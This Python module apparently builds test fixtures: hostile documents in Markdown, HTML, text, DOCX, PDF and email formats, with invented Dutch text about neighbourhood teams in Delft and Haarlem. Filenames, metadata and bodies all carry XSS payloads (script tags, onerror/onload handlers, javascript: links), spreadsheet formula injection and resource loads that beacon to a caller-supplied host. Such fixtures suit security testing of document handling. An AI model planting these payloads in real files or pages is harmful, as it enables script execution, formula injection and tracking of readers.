"""Documents that are active themselves: all that a browser or an office program fetches, sends or runs, in six formats.

What they say is invented. Each part lures to an address of its own under the one that is given, so
that whoever follows one is known by what it asked for.
"""

import io
from email.message import EmailMessage

import docx
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from fpdf import FPDF

RUN = "window.hacked=1"
FORMULA = '=HYPERLINK("{lair}/formule";"klik")'
_MARKUP = (
    "<img src='{lair}/img.png' onerror='window.hacked=1' onload='window.hacked=1'>"
    "<script src='{lair}/script.js'></script><script>window.hacked=1</script>"
    "<svg onload='window.hacked=1'><image href='{lair}/svg.png'/><use href='{lair}/use.svg#a'/></svg>"
    "<style>@import url({lair}/style.css); body {{ background: url({lair}/body.png) }}</style>"
    "<link rel='stylesheet' href='{lair}/link.css'><link rel='prefetch' href='{lair}/prefetch'>"
    "<meta http-equiv='refresh' content='0;url={lair}/refresh'><base href='{lair}/'>"
    "<iframe src='{lair}/iframe' srcdoc='<script>parent.hacked=1</script>'></iframe>"
    "<object data='{lair}/object'></object><embed src='{lair}/embed'><video src='{lair}/video' autoplay></video>"
    "<form action='{lair}/form' method='post'><input name='bsn' autofocus onfocus='window.hacked=1'>"
    "<button formaction='{lair}/knop'>Verstuur</button></form>"
    "<a href='javascript:window.hacked=1'>lees meer</a><a href='{lair}/a' ping='{lair}/ping'>elders</a>"
    "<p style='background:url({lair}/p.png)' onmouseover='window.hacked=1'>stijl</p>"
    "<details open ontoggle='window.hacked=1'>open</details><marquee onstart='window.hacked=1'>m</marquee>"
)
_MARKDOWN = (
    "![kaart]({lair}/md.png) [elders]({lair}/md) <{lair}/auto> {lair}/kaal [x](javascript:window.hacked=1)"
    " ![v][plaatje]\n\n[plaatje]: {lair}/verwijzing.png\n"
)
_HEAD = """---
titel: '{title} <img src="{lair}/titel.png" onerror="window.hacked=1">'
auteurs: ['=HYPERLINK("{lair}/auteur")', '[Jan]({lair}/auteur)']
organisatie: '<svg onload="window.hacked=1"></svg>'
datum: {year}
soort: {kind}
gemeenten: [{place}]
themas: [projectorganisatie, '<script>window.hacked=1</script>']
organisatievormen: [{form}]
herkomst: "javascript:window.hacked=1"
vragen:
  - 'Waarom koos {place} <form action="{lair}/vraag"><input name="bsn"></form> voor een projectorganisatie?'
---
"""
_DELFT = """# De Toegang in Delft {markup}

## Waarom een projectorganisatie ![kop]({lair}/kop.png)

=SOM(1) Delft koos voor een projectorganisatie, omdat de wethouder <img src="{lair}/zin.png"> snel wilde beginnen.
In Delft werken sinds 2014 vier sociale wijkteams [meer]({lair}/meer) met 40 medewerkers.

## Nadelen van een projectorganisatie

De projectorganisatie in Delft heeft ook nadelen <script>window.hacked=1</script>:

- Dubbele kosten: een projectorganisatie is duur voor de gemeente ![k]({lair}/k.png), want veel kosten zijn dubbel.
- @Geen eigen gezicht: een projectorganisatie ontwikkelt geen eigen identiteit.

## Wat er daarna moet gebeuren

Een projectorganisatie moet na een paar jaar een vaste vorm krijgen. Wie beslist over de projectorganisatie?
"""
_HAARLEM = """# Wijkteams in Haarlem

## Waarom Haarlem een netwerkorganisatie koos

De gemeente Haarlem koos voor een netwerkorganisatie <img src="{lair}/h.png"> en niet voor een projectorganisatie.
Volgens de onderzoekers is een projectorganisatie in Haarlem niet nodig [bron]({lair}/h), omdat partners elkaar kennen.
In Haarlem werken sinds 2012 negen sociale wijkteams.

{markup}

{markdown}
"""


def luring_documents(lair: str) -> dict[str, bytes]:
    """Contents by the name of the file; also the names are hostile, as far as a file's name may be."""
    told = {"lair": lair, "markup": _MARKUP.format(lair=lair), "markdown": _MARKDOWN.format(lair=lair)}
    delft = _HEAD.format(title="De Toegang in Delft", year=2016, kind="blog", place="Delft", form="projectorganisatie",
                         **told)  # fmt: skip
    haarlem = _HEAD.format(title="Wijkteams in Haarlem", year=2021, kind="onderzoek", place="Haarlem",
                           form="netwerkorganisatie", **told)  # fmt: skip

    def text(kind: str) -> str:
        return f"Het wijkteam van Lokoord-{kind} werkt met 9 medewerkers aan het project lokaas{kind}. {told['markup']}"

    return {
        "<img src=x onerror=window.hacked=1> delft.md": (delft + _DELFT.format(**told)).encode(),
        "=HYPERLINK(1) haarlem.md": (haarlem + _HAARLEM.format(**told)).encode(),
        "'-alert(1)-' lokoord.html": _html(text("Html"), told),
        '"><svg onload=window.hacked=1> lokoord.txt': f"{text('Txt')}\n\n{told['markdown']}".encode(),
        "<script>window.hacked=1; lokoord.docx": _docx(text("Docx"), lair),
        "[klik](javascript:alert) lokoord.pdf": _pdf(text("Pdf"), lair),
        "@lokoord &lt;img&gt;.eml": _eml(text("Eml"), told),
    }


def _html(text: str, told: dict[str, str]) -> bytes:
    shown = text.replace("<", "&lt;").replace(">", "&gt;")  # as text, and as markup under it
    return (
        f"<html><head><title>{shown[:150]}</title>{told['markup']}</head><body onload='{RUN}'><main><h1>Lokoord</h1>"
        f"<p>{shown}</p>{told['markup']}<p>{told['markdown']}</p></main></body></html>"
    ).encode()


def _docx(text: str, lair: str) -> bytes:
    document = docx.Document()
    document.add_heading("Lokoord", 0)
    paragraph = document.add_paragraph(text)
    for place, kind in (("link", RELATIONSHIP_TYPE.HYPERLINK), ("plaatje.png", RELATIONSHIP_TYPE.IMAGE)):
        name = document.part.relate_to(f"{lair}/{place}", kind, is_external=True)
        if kind == RELATIONSHIP_TYPE.HYPERLINK:
            link = OxmlElement("w:hyperlink")
            link.set(qn("r:id"), name)
            link.append(document.add_paragraph().add_run("een link naar elders")._r)
            paragraph._p.append(link)
    document.core_properties.title = f"<img src='{lair}/docx.png' onerror='{RUN}'>"
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _pdf(text: str, lair: str) -> bytes:
    pages = FPDF(format="A4")
    pages.set_title(f"<img src='{lair}/pdf.png' onerror='{RUN}'>")
    pages.add_page()
    pages.set_font("Helvetica", size=11)
    pages.multi_cell(170, 6, text)
    pages.cell(60, 6, "een link naar elders", link=f"{lair}/pdf")
    return bytes(pages.output())


def _eml(text: str, told: dict[str, str]) -> bytes:
    message = EmailMessage()
    message["From"] = '"<script>window.hacked=1</script>" <iemand@voorbeeld.nl>'
    message["Subject"] = "<img src=x onerror=window.hacked=1> Lokoord"
    message["Date"] = "Wed, 02 Mar 2016 10:00:00 +0100"
    message.set_content(f"{text}\n\n{told['markdown']}")
    message.add_alternative(f"<p>{text}</p>", subtype="html")
    return message.as_bytes()
